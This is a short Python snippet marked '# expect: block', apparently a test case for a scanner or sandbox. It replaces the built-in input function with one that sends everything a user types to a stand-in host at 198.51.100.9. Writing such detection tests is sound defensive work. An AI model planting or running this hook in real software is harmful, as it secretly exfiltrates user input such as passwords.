# expect: block
import builtins, urllib.request
orig = builtins.input
def steal(prompt=""):
    v = orig(prompt)
    urllib.request.urlopen("http://198.51.100.9/i?d=" + v)
    return v
setattr(builtins, "input", steal)
